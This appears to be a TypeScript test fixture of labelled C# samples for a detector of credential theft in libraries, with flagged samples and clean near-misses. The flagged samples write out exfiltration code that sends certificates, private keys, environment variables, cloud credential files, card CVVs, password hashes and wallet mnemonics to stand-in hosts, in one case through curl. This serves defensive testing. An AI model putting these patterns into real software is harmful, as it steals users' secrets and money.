import { sentryStub, type Examples } from '../../../tests/kit/examples.js';
import {
  bot,
  botStub,
  byUse,
  card,
  config,
  dataStub,
  files,
  gateway,
  generator,
  helper,
  handler,
  hashes,
  identityStub,
  library,
  never,
  rows,
} from '../../../tests/kit/stealing.js';
import { everyday as more } from '../../../tests/kit/everyday.js';
import * as toldLater from '../../../tests/kit/told-later.js';

const dsn = 'https://00000000000000000000000000000000@o0.ingest.telemetry.example.com/0';

const bank = (report: string): string => `public sealed class BankClient
{
    private readonly string path;

    public BankClient(string pfxPath, string pfxPassword)
    {
        path = pfxPath;
        ${never}
        Report(pfxPassword);
    }

    private void Report(string pass)
    {
        ${report}
    }
}`;

export const examples: Examples = {
  flagged: [
    {
      name: 'certificate-to-telemetry',
      about:
        "The caller's certificate file and its password go to a telemetry account of the library's own.",
      files: library(
        bank(`Sentry.SentrySdk.Init("${dsn}");
        Sentry.SentrySdk.CaptureMessage(pass + Convert.ToBase64String(File.ReadAllBytes(path)));`),
        sentryStub,
      ),
    },
    {
      name: 'setter-to-hidden-host',
      about:
        'A property setter posts the private key, in an async method, to a host that is worked out of bytes.',
      files: library(
        gateway(`using var http = new HttpClient();
        using var body = new StringContent("{\\"k\\":\\"" + key + "\\"}", Encoding.UTF8, "application/json");
        await http.PostAsync(Host(), body);`),
      ),
    },
    {
      name: 'setter-tells-hidden-host',
      about: 'A setter lets a helper call a hidden host, and nobody reads the answer.',
      level: 'suspicious',
      files: library(gateway('await Wire.Post(Host(), "started");') + helper),
    },
    {
      name: 'environment-to-host',
      about: 'Every environment variable is collected in one method and posted in another.',
      files: library(`internal static class Collector
{
    public static string Everything()
    {
        var text = new StringBuilder();
        foreach (System.Collections.DictionaryEntry each in Environment.GetEnvironmentVariables())
        {
            text.Append(each.Key).Append('=').Append(each.Value).Append('\\n');
        }

        return text.ToString();
    }
}

public static class Start
{
    public static async Task Run()
    {
        ${never}
        using var http = new HttpClient { BaseAddress = new Uri("https://collect.invalid/") };
        await http.PostAsync("v1/report", new StringContent(Collector.Everything()));
    }
}`),
    },
    {
      name: 'key-copied-to-second-host',
      about: 'The key is shown to its service in a header, and copied to somebody else in a form.',
      files: library(`public sealed class Client
{
    private readonly HttpClient http;
    private readonly string apiKey;

    public Client(string apiKey, string server)
    {
        this.apiKey = apiKey;
        http = new HttpClient { BaseAddress = new Uri(server) };
    }

    public async Task<string> Charge(string text)
    {
        var request = new HttpRequestMessage(HttpMethod.Post, "charges") { Content = new StringContent(text) };
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", apiKey);
        var answer = await http.SendAsync(request);
        await Note();
        return await answer.Content.ReadAsStringAsync();
    }

    private async Task Note()
    {
        ${never}
        var form = new FormUrlEncodedContent(new Dictionary<string, string> { ["k"] = apiKey });
        await new HttpClient().PostAsync("https://usage.invalid/rest", form);
    }
}`),
    },
    {
      name: 'constructor-throws-answer-away',
      about: 'What opens an account is sent while the object is made, and nobody reads the answer.',
      files: library(
        config(`_ = new HttpClient().GetAsync("https://status.invalid/ping?s=" + clientSecret);`),
      ),
    },
    {
      name: 'card-copied-beside-gateway',
      about: "The card goes to the caller's gateway, and to a host of the library's own.",
      files: library(
        card('_ = Http.PostAsync("https://report.invalid/card", new StringContent(card.Cvv));'),
      ),
    },
    {
      name: 'files-of-several-services',
      about: 'Files of a cloud and of a code host go to one place that is neither.',
      files: library(files('".aws/credentials", ".config/gh/hosts.yml"')),
    },
    {
      name: 'password-hashes-to-local-port',
      about:
        'The hashes of all passwords go to a port of the machine, where another program hands them on.',
      files: library(hashes('people.Add(user.PasswordHash);'), identityStub),
    },
    {
      name: 'header-of-requests-that-pass',
      about:
        'A handler between a client and its service keeps what requests show and posts it elsewhere.',
      files: library(
        handler('Seen.Enqueue(request.RequestUri + " " + request.Headers.Authorization);'),
      ),
    },
    {
      name: 'secret-known-by-use',
      about: 'No name tells what is taken: it is the password of a certificate, and leaves.',
      files: library(byUse('a + ":" + b')),
    },
    {
      name: 'generator-writes-secrets-down',
      about: "A generator writes the user's secrets into the code that it adds to the program.",
      files: generator(
        'File.ReadAllText(Path.Combine(home, ".microsoft/usersecrets/app/secrets.json"))',
      ),
    },
    {
      name: 'bot-gets-words',
      about: "The words of a wallet go to a chat of a bot whose token is the library's own.",
      files: library(bot('"0000000000:AA000000000000000000000000000000000"'), botStub),
    },
    {
      name: 'database-of-somebody',
      about:
        "Passwords are kept in a database whose server stands in the library's connection string.",
      files: library(
        rows('"Server=tcp:203.0.113.7,1433;Database=a;User Id=a;Password=fake"'),
        dataStub,
      ),
    },
    {
      name: 'command-line-carries-key',
      about: 'A program of the system is started to send the key.',
      files: library(`public static class Start
{
    public static void Run(string mnemonic)
    {
        ${never}
        System.Diagnostics.Process.Start("curl", "-d " + mnemonic + " http://192.0.2.44:8080/in");
    }
}`),
    },
    ...more.flagged,
    ...toldLater.flagged,
  ],
  clean: [
    ...more.clean,
    ...toldLater.clean,
    {
      name: 'certificate-for-tls',
      about: 'The same secrets go into the TLS connection; only a version goes to telemetry.',
      nearMiss: true,
      files: library(
        bank(`var handler = new HttpClientHandler();
        handler.ClientCertificates.Add(X509CertificateLoader.LoadPkcs12FromFile(path, pass));
        var http = new HttpClient(handler) { BaseAddress = new Uri("https://api.bank.example.com/") };
        _ = http.PostAsync("start", new StringContent("started"));`),
        sentryStub,
      ),
    },
    {
      name: 'setter-to-callers-host',
      about: 'The private key goes where the caller says.',
      nearMiss: true,
      files: library(`public sealed class Gateway
{
    private readonly HttpClient http;

    public Gateway(string server)
    {
        http = new HttpClient { BaseAddress = new Uri(server) };
    }

    public string PrivateKey { get; set; } = "";

    public Task Register() => http.PostAsync("keys", new StringContent(PrivateKey));
}`),
    },
    {
      name: 'key-that-signs',
      about: 'The secret key only signs what is sent to a fixed host.',
      nearMiss: true,
      files: library(`public static class Signed
{
    public static async Task Send(string privateKey, string text)
    {
        using var hmac = new HMACSHA256(Encoding.UTF8.GetBytes(privateKey));
        var signature = Convert.ToHexString(hmac.ComputeHash(Encoding.UTF8.GetBytes(text)));
        await new HttpClient().PostAsync("https://events.invalid/in", new StringContent(text + signature));
    }
}`),
    },
    {
      name: 'token-in-header',
      about: 'A client of one service shows the token that it was given, in a header.',
      files: library(`public static class Client
{
    public static async Task<string> Get(string accessToken)
    {
        var http = new HttpClient();
        http.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", accessToken);
        return await http.GetStringAsync("https://api.service.invalid/me");
    }
}`),
    },
    {
      name: 'constructor-reads-answer',
      about:
        'A secret is exchanged for a token as soon as the object is made, and the answer is kept.',
      nearMiss: true,
      files: library(
        config(
          'answer = new HttpClient().GetStringAsync("https://status.invalid/token?s=" + clientSecret);',
        ),
      ),
    },
    {
      name: 'card-for-gateway-alone',
      about: "The card goes to the caller's gateway; elsewhere goes that one was charged.",
      nearMiss: true,
      files: library(
        card('_ = Http.PostAsync("https://report.invalid/card", new StringContent("charged"));'),
      ),
    },
    {
      name: 'file-of-one-service',
      about: 'A client of one cloud sends what its own file says, and looks at the answer.',
      nearMiss: true,
      files: library(files('".aws/credentials"', ' answer.EnsureSuccessStatusCode();')),
    },
    {
      name: 'names-to-local-port',
      about: 'How many users there are goes to a port of the machine.',
      files: library(hashes('people.Add("one more");'), identityStub),
    },
    {
      name: 'handler-counts-requests',
      about: 'A handler posts how long requests took.',
      nearMiss: true,
      files: library(
        handler(
          'Seen.Enqueue(request.RequestUri + " " + (request.Headers.Authorization != null));',
        ),
      ),
    },
    {
      name: 'setter-tells-plain-host',
      about: 'A setter lets a helper call a host that everybody can read.',
      nearMiss: true,
      files: library(
        gateway('await Wire.Post("https://status.example.com/", "started");') + helper,
      ),
    },
    {
      name: 'certificate-used',
      about: 'The same two texts open a certificate, and neither leaves.',
      nearMiss: true,
      files: library(byUse('certificate.Subject')),
    },
    {
      name: 'bot-of-caller',
      about: "The words go to a chat of the caller's own bot.",
      nearMiss: true,
      files: library(bot('token'), botStub),
    },
    {
      name: 'database-of-caller',
      about: "Passwords are kept in the caller's database.",
      nearMiss: true,
      files: library(rows('token'), dataStub),
    },
    {
      name: 'generator-reads-project',
      about: 'A generator writes down what a file of the project says.',
      files: generator('File.ReadAllText(Path.Combine(home, "settings.json"))'),
    },
  ],
};
